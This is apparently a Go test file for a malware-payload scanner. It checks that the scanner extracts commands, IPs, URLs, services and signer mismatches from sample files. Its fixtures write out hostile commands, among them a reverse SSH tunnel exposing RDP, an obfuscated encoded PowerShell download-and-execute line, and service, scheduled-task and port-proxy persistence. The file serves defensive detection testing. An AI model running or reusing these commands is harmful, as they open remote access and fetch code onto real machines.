package payload

import (
	"bytes"
	"encoding/base64"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"lurehound"
)

func wide(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return b
}

func scanned(b []byte, window int) lurehound.Indicators {
	acc := newFound()
	acc.read(file{r: bytes.NewReader(b), size: int64(len(b))}, window)
	x, _ := acc.result()
	return x
}

const updater = "@echo off\r\nsc create UpdaterSvc binPath= \"C:\\ProgramData\\Updater\\UpdaterSvc.exe\" start= auto\r\n" +
	"start 7655.bat\r\nssh -N -R 7655:localhost:3389 -i key user@203.0.113.7\r\n"

func TestUpdater(t *testing.T) {
	for _, b := range [][]byte{[]byte(updater), wide(updater)} {
		x := scanned(append([]byte{0, 1, 2}, b...), windowSize)
		if !slices.Contains(x.Commands, "ssh -N -R 7655:localhost:3389 -i key user@203.0.113.7") {
			t.Errorf("commands: %q", x.Commands)
		}
		if d := cmp.Diff([]string{"203.0.113.7"}, x.IPs); d != "" {
			t.Error(d)
		}
		if d := cmp.Diff([]string{"UpdaterSvc"}, x.Services); d != "" {
			t.Error(d)
		}
		if d := cmp.Diff([]string{`C:\ProgramData\Updater\UpdaterSvc.exe`, "7655.bat"}, x.Files); d != "" {
			t.Error(d)
		}
		if s := Signals(&lurehound.PayloadFacts{Found: x}); len(s) < 2 || s[0].Rule != "tunnel" || !s[0].Direct {
			t.Errorf("signals: %v", s)
		}
	}
}

func TestEncodedPowerShell(t *testing.T) {
	script := "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')"
	line := `p^ow^ershell -nop -w hidden -eNc ` + base64.StdEncoding.EncodeToString(wide(script))
	x := scanned([]byte("cmd /c "+line+"\n"), windowSize)
	if len(x.Commands) != 1 || !strings.Contains(x.Commands[0], script) || !slices.Contains(x.URLs, "http://198.51.100.9/a.ps1") {
		t.Errorf("got %q %q", x.Commands, x.URLs)
	}
}

func TestTraps(t *testing.T) {
	traps := strings.Split(`Version=1.2.3.4|FileVersion 10.20.30.40|v4.0.30319.1|Chrome/120.10.11.12|1.3.6.1.4.1.311.2.1.4|2.5.29.15|2.5.4.3|1.3.14.3.2.26|
6.0.0.0|version="5.1.0.0"|release 9.22.31.44|build-7.21.30.99|255.255.255.0|0.0.0.0|127.0.0.1|300.1.2.3|kernel32.dll|KERNEL32.dll|api-ms-win-crt-heap-l1-1-0.dll|
VCRUNTIME140.dll|System.IO|System.Net|System.Net.Http|Microsoft.Win32|foo.cs|main.py|lib.rs|README.md|archive.zip|window.location.host|document.name|this.data.id|
console.info|module.exports|process.env.name|e.target.id|Array.of|foo.so|object.is|index.js|types.ts|self.data.map|http://www.w3.org/2000/svg|
http://schemas.microsoft.com/SMI/2005|http://crl3.digicert.com/x.crl|https://www.openssl.org/docs|http://%s/index|http://localhost:8080/|http://server/x|@types/node|
icon@2x.png|foo@bar|a.b|x.ai|ssh is a protocol|net income|the reg office|curl is a tool|sc is short|powershell is a shell|C:\src\main.cpp|http:// |https://|
std::string|12:34:56|-----BEGIN PUBLIC KEY-----|-----BEGIN CERTIFICATE-----|name.split.call(x)|my.prop.com(|$scope.app.net|wget --help`, "|")
	if len(traps) < 60 {
		t.Fatalf("%d traps", len(traps))
	}
	for _, trap := range traps {
		trap = strings.Trim(trap, "\n")
		for _, b := range [][]byte{[]byte("\x00" + trap + "\x00"), wide("\x00" + trap + "\x00")} {
			if x := scanned(b, windowSize); len(x.Where) > 0 {
				t.Errorf("%q: %v", trap, x.Where)
			}
		}
	}
}

// What is found does not depend on where the windows' borders lie.
func TestWindows(t *testing.T) {
	pieces := []string{"http://evil-site.com/setup.exe", "ssh -N -R 7655:localhost:3389 user@203.0.113.7", "198.51.100.77", `%APPDATA%\x\run.bat`, "update-host.net", "a@mail-host.org", `HKCU\Software\Microsoft\Windows\CurrentVersion\Run`}
	rapid.Check(t, func(r *rapid.T) {
		var b []byte
		rnd := rand.New(rand.NewPCG(rapid.Uint64().Draw(r, "seed"), 1))
		for range rapid.IntRange(1, 12).Draw(r, "pieces") {
			for range rnd.IntN(6000) {
				b = append(b, byte(rnd.Uint32()))
			}
			fill := rnd.IntN(3)
			for range rnd.IntN(4000) * (fill & 1) {
				b = append(b, "xy z"[rnd.IntN(4)])
			}
			b = append(b, 0)
			if p := pieces[rnd.IntN(len(pieces))]; rnd.IntN(2) == 0 {
				b = append(b, wide(p)...)
			} else {
				b = append(b, p...)
			}
			b = append(b, 0, 0)
		}
		window := rapid.IntRange(block*2, block*3).Draw(r, "window")
		if d := cmp.Diff(scanned(b, len(b)+block*2), scanned(b, window)); d != "" {
			r.Fatal(d)
		}
	})
}

// A line longer than any buffer loses nothing at the cuts.
func TestLongLine(t *testing.T) {
	for _, at := range []int{owned - 5, lead + owned - 9, lead + owned + tail - 7, 2*owned + 3} {
		b := bytes.Repeat([]byte("ab "), 150000)
		copy(b[at:], " http://evil-site.com/x ")
		x := scanned(b, windowSize)
		if d := cmp.Diff([]string{"http://evil-site.com/x"}, x.URLs); d != "" || x.Where[0].Offset != int64(at) && x.Where[0].Offset != int64(at+1) {
			t.Errorf("at %d: %s %v", at, d, x.Where)
		}
	}
}

func TestCompareReference(t *testing.T) {
	brand := lurehound.Brand{Signers: []string{"Vendor Ltd"}, References: []lurehound.Reference{{SHA256: "aa", MaxSize: 12500000}}}
	signed := func(d lurehound.DigestState, who string) lurehound.PayloadFacts {
		p := lurehound.PayloadFacts{Signature: lurehound.SignatureFacts{Present: true, Digest: d, Signer: who, Chain: lurehound.ChainTrusted, Thumbprint: "cc"}}
		p.SHA256, p.Size = "bb", 187695104
		return p
	}
	good := signed(lurehound.DigestMatch, "X")
	good.SHA256 = "aa"
	unvouched := signed(lurehound.DigestMatch, "Vendor Ltd")
	unvouched.Signature.Chain = lurehound.ChainUnknown
	byName := lurehound.Brand{Signers: brand.Signers}
	byCertificate := lurehound.Brand{References: []lurehound.Reference{{Signer: "Vendor Ltd", SHA256: "aa", Thumbprint: "CC"}}}
	if got := CompareReference(unvouched, byName, nil); got.Verdict != lurehound.ReferenceUnknown || len(got.Differences) != 1 {
		t.Errorf("a name that nobody vouches for: %+v", got)
	}
	if got := CompareReference(unvouched, byCertificate, nil); got.Verdict != lurehound.VendorSigned {
		t.Errorf("the same certificate: %+v", got)
	}
	for _, c := range []struct {
		p     lurehound.PayloadFacts
		known KnownBad
		want  lurehound.ReferenceVerdict
	}{
		{good, nil, lurehound.Genuine}, {good, KnownBad{"aa": ""}, lurehound.Genuine},
		{signed(lurehound.DigestMatch, "VENDOR LIMITED"), nil, lurehound.VendorSigned},
		{signed(lurehound.DigestMatch, "VENDOR LIMITED"), KnownBad{"bb": ""}, lurehound.KnownBad},
		{signed(lurehound.DigestMismatch, "Vendor Ltd"), nil, lurehound.Differs},
		{signed(lurehound.DigestMatch, "Helping Businesses Limited"), nil, lurehound.Differs},
		{unvouched, nil, lurehound.Differs},
	} {
		if got := CompareReference(c.p, brand, c.known); got.Verdict != c.want {
			t.Errorf("%+v: %+v, want %s", c.p.Signature, got, c.want)
		}
	}
	d := CompareReference(signed(lurehound.DigestMatch, "Other"), brand, nil).Differences
	if !slices.Contains(d, "size: 187,695,104 bytes: 15 times the usual 12,500,000") {
		t.Errorf("%q", d)
	}
	if !SameSigner("HELPING BUSINESSES LTD", "Helping Businesses Limited") || SameSigner("", "") {
		t.Error("signers")
	}
	if _, err := ReadKnownBad(strings.NewReader("# x\n" + strings.Repeat("0", 63))); err == nil {
		t.Error("a short hash was taken")
	}
}

func BenchmarkScanNoise(b *testing.B) {
	buf := make([]byte, 8<<20)
	rnd := rand.NewChaCha8([32]byte{1})
	rnd.Read(buf)
	acc := newFound()
	f := file{r: bytes.NewReader(buf), size: int64(len(buf))}
	b.SetBytes(int64(len(buf)))
	b.ReportAllocs()
	for b.Loop() {
		indicators(f, acc)
	}
}

func FuzzIndicators(f *testing.F) {
	f.Add([]byte(updater))
	f.Add(wide(updater))
	f.Add([]byte("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEA\n-----END OPENSSH PRIVATE KEY-----"))
	f.Fuzz(func(t *testing.T, b []byte) {
		if d := cmp.Diff(scanned(b, len(b)+2*block), scanned(b, 2*block)); d != "" {
			t.Fatal(d)
		}
	})
}

func FuzzPowerShell(f *testing.F) {
	f.Add("powershell -enc " + base64.StdEncoding.EncodeToString(wide("whoami")))
	f.Fuzz(func(t *testing.T, s string) { decodePowerShell(s) })
}

// A tunnel is one that lets others in; what only looks like it is none.
func TestSignalsOfCommands(t *testing.T) {
	for line, want := range map[string]string{
		"ssh -N -R 7655:localhost:3389 user@203.0.113.7":            "tunnel",
		"ssh.exe -fNR7655:localhost:3389 -l user 203.0.113.7":       "tunnel",
		"plink -ssh -R 0.0.0.0:7655:localhost:3389 user@host -pw x": "tunnel",
		"ssh -o RemoteForward=7655 user@203.0.113.7":                "tunnel",
		"ssh -L 8080:localhost:80 user@203.0.113.7":                 "",
		"ssh -r 7655:localhost:3389 user@203.0.113.7":               "",
		"ssh [-R [bind_address:]port:host:hostport] user@host":      "",
		"netsh interface portproxy add v4tov4 listenport=1":         "port-proxy",
		"sc create X binPath= y":                                    "service",
		"schtasks /create /tn x":                                    "scheduled-task",
	} {
		got := ""
		for _, s := range Signals(&lurehound.PayloadFacts{Found: lurehound.Indicators{Commands: []string{line}}}) {
			got += s.Rule
			if s.Direct != (want == "tunnel") {
				t.Errorf("%s: direct is %v", line, s.Direct)
			}
		}
		if got != want {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
	p := lurehound.PayloadFacts{Inflated: true, Signature: lurehound.SignatureFacts{Unsigned: 9, Digest: lurehound.DigestMismatch}}
	got := ""
	for _, s := range Signals(&p) {
		got += s.Rule + " "
	}
	if got != "tampered stuffed inflated " {
		t.Errorf("got %q", got)
	}
}
